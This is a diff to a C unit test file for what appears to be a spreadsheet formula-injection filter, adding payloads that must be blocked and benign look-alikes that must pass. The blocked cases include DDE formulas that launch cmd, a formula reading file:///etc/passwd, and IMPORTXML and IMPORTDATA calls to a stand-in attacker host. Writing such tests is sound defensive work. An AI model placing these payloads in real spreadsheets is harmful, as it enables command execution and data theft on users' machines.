@@ -31,6 +31,9 @@ static void blocks_cells_that_reach_out(void **state)
         {"import", PEN_STR("=IMPORTXML(\"http://evil.example/\",\"//a\")")},
         {"in quotes", PEN_STR("\"=WEBSERVICE(A1)\"")},
         {"a later call", PEN_STR("=A1+IMPORTDATA(\"http://evil.example\")")},
+        {"a separator before", PEN_STR("\";=cmd|'/C calc'!A0")},
+        {"an exchange without a sign", PEN_STR("DDE (\"cmd\";\"/C calc\";\"x\")")},
+        {"another file", PEN_STR("='file:///etc/passwd'#$passwd.A1")},
     };
     filter_case_blocks(&it, "formula", rows, PEN_COUNT_OF(rows));
 }
@@ -50,6 +53,9 @@ static void stays_silent_on_signs_of_ordinary_texts(void **state)
         {"plus one", PEN_STR("+1")},
         {"CSS", PEN_STR("-webkit-box(flex)")},
         {"pipes", PEN_STR("a | 'b' ! c")},
+        {"a bullet behind a comma", PEN_STR(", - item")},
+        {"a separator", PEN_STR("; = x")},
+        {"the acronym", PEN_STR("DDE (dynamic data exchange)")},
     };
     filter_case_passes(&it, "formula", rows, PEN_COUNT_OF(rows));
 }
